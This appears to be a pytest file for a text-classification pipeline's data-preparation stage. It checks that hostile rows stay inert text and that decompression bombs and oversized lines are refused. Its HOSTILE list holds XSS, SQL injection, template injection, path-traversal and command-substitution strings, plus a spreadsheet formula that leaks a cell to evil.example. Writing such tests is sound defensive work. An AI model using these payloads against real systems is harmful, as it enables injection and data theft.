"""Input that wants to do harm: it is refused, or stays text and within the memory that it was given."""

import gzip
import re
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from stage_inputs import CITIES, as_csv, remains
from support import artifact, tiny_rows

from kfp_textclf.components.common.errors import UserError
from kfp_textclf.components.prepare import readers
from kfp_textclf.components.prepare.readers import Columns, read_rows
from kfp_textclf.components.prepare.stage import PreparedDataset, prepare

GOOD = tiny_rows(CITIES[:6])
HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "=CMD|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE rows; --",
    "{{ 7 * 7 }} {% raw %}",
    "\x1b]0;title\x07 \x1b[2J",
    "abc\u202etxt.exe",
    "../../etc/passwd",
    "%s%n ${HOME} $(id) `id`",
]


def run(tmp_path: Path, model: Path, files: dict[str, bytes], **options) -> PreparedDataset:
    raw = artifact(tmp_path / "raw", files)
    return prepare(str(raw), str(tmp_path / "out"), base_model=model.as_uri(), max_length=32, **options)


def test_hostile_texts_and_labels_stay_text(tmp_path: Path, tiny_model: Path) -> None:
    evil = [(f"label {text if text.isprintable() else ''}", f"{text} {n}") for text in HOSTILE for n in range(3)]
    rows = [*GOOD, *evil]
    result = run(tmp_path, tiny_model, {"train.csv": as_csv(rows)}, train_file="train.csv")
    kept = [
        text
        for split in ("train", "validation", "test")
        for text in pq.read_table(tmp_path / "out" / f"{split}.parquet")["text"].to_pylist()
    ]
    assert sorted(kept) == sorted(readers_text(text) for _, text in rows)
    for name in ("markup", "formula", "control_characters"):
        assert result.checks[name]["result"] == "warn", name
    for harm in ("<script>alert", "<img src=x", "<svg/onload", "\x1b", "\u202e"):
        assert harm not in result.report_html
    assert "&lt;script&gt;alert" in result.report_html


def readers_text(text: str) -> str:
    return " ".join(text.split())


@settings(deadline=None, max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1), max_size=8))
def test_any_text_is_prepared_and_no_report_holds_its_markup(
    tmp_path: Path, tiny_model: Path, texts: list[str]
) -> None:
    evil = [("evil", f"<x-{number}>{text}") for number, text in enumerate(texts)]
    result = run(tmp_path, tiny_model, {"train.csv": as_csv([*GOOD, *evil], quoting=1)}, train_file="train.csv")
    assert sum(result.rows.values()) == len(GOOD) + len(texts)
    assert not re.search(r"<x-\d", result.report_html)


@pytest.mark.parametrize("name", ["x.txt", "x.xlsx", "x"])
def test_files_of_other_types_are_refused_by_type(tmp_path: Path, tiny_model: Path, name: str) -> None:
    message = rf"train_file='{re.escape(name)}': unknown file type '{Path(name).suffix}'; use \.csv, \.tsv, \.jsonl or "
    with pytest.raises(UserError, match=message):
        run(tmp_path, tiny_model, {name: as_csv(GOOD)}, train_file=name)


@pytest.mark.parametrize("name", ["train.csv.gz", "train.csv.zip", "train.jsonl.bz2"])
def test_compressed_files_are_refused_by_name(tmp_path: Path, tiny_model: Path, name: str) -> None:
    bomb = gzip.compress(b"x,y\n" * 1_000_000)
    with pytest.raises(UserError, match=rf"train_file='{re.escape(name)}': is not in the raw data set .*; unpack it"):
        run(tmp_path, tiny_model, {name: bomb, "test.csv": as_csv(GOOD)}, train_file=name)
    with pytest.raises(UserError, match=r"unknown file type"):
        list(read_rows(tmp_path / "raw" / name, Columns()))


def test_compressed_bytes_under_another_name_are_refused(tmp_path: Path, tiny_model: Path) -> None:
    with pytest.raises(UserError, match=r"train\.csv: .*(UTF-8|NUL)"):
        run(tmp_path, tiny_model, {"train.csv": gzip.compress(as_csv(GOOD))}, train_file="train.csv")
    assert not [name for name in remains(tmp_path) if name.startswith((".", "out"))]


def test_line_without_end_is_refused_before_it_is_held(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(readers, "MAX_LINE", 1000)
    for name, content in (("a.csv", b"b,a\nb," + b"x" * 5000), ("a.jsonl", b"\n" + b" " * 5000 + b"{}")):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(UserError, match=rf"{name}: line 2: longer than 1000 characters"):
            list(read_rows(tmp_path / name, Columns()))


def test_label_of_a_page_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"x" * 100_001 + b",a\n")
    with pytest.raises(UserError, match=r"a\.csv: line 1: label of 100001 characters"):
        list(read_rows(tmp_path / "a.csv", Columns()))


def test_parquet_that_unpacks_to_far_more_is_refused(tmp_path: Path) -> None:
    table = pa.table({"text": pa.array(["x" * 90_000] * 1500), "label": ["a"] * 1500})
    pq.write_table(table, tmp_path / "bomb.parquet", compression="zstd", use_dictionary=False)
    assert (tmp_path / "bomb.parquet").stat().st_size < 200_000
    with pytest.raises(UserError, match=r"bomb\.parquet: row group 0 unpacks from \d+ to 1\d{8} bytes"):
        next(read_rows(tmp_path / "bomb.parquet", Columns()))


def test_text_that_parquet_repeats_by_reference_is_held_once(tmp_path: Path) -> None:
    text = pa.DictionaryArray.from_arrays(pa.array([0] * 1_000_000, pa.int32()), ["x" * 90_000])
    pq.write_table(pa.table({"text": text, "label": ["a"] * 1_000_000}), tmp_path / "bomb.parquet", compression="zstd")
    pool, usual = pa.proxy_memory_pool(pa.default_memory_pool()), pa.default_memory_pool()
    pa.set_memory_pool(pool)
    try:
        for (number, read, _), _ in zip(read_rows(tmp_path / "bomb.parquet", Columns()), range(20_000), strict=False):
            assert len(read) == 90_000, number
    finally:
        pa.set_memory_pool(usual)
    assert 0 < pool.max_memory() < 64 << 20, "as plain strings 4096 rows alone would take 370 MB"


MEASURE = """
import resource, sys
from pathlib import Path
from kfp_textclf.components.common.data_checks import CheckSettings
from kfp_textclf.components.prepare.readers import Columns
from kfp_textclf.components.prepare.row_checks import RowChecks
from kfp_textclf.components.prepare.selection import select_rows, stage_file
from kfp_textclf.components.prepare.staged_rows import staged_rows
path = Path(sys.argv[1])
with staged_rows(path.with_name("out"), 13) as rows:
    counts = stage_file(rows, "train", path, Columns(), "keep", RowChecks(CheckSettings.parse()))
    select_rows(rows, {"train": counts, "test": counts}, {"train": "train"}, min_examples=1, unseen_labels="error",
        validation_fraction=0.1, test_fraction=0.1)
    kept = sum(len(text) for _, text, _ in rows.kept())
print(kept, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


def test_memory_does_not_grow_with_the_rows(tmp_path: Path) -> None:
    peaks, long = [], "some words of a long text " * 38
    for count in (10_000, 80_000):
        path = tmp_path / "rows.csv"
        with path.open("w", encoding="utf-8") as file:
            file.writelines(f"label {number % 7},{number} {long}\n" for number in range(count))
        done = subprocess.run([sys.executable, "-c", MEASURE, str(path)], capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        kept, peak = map(int, done.stdout.split())
        assert kept > 900 * count, "every row was kept"
        peaks.append(peak)
    assert peaks[1] - peaks[0] < 35, "MiB, for 66 MiB more of texts"
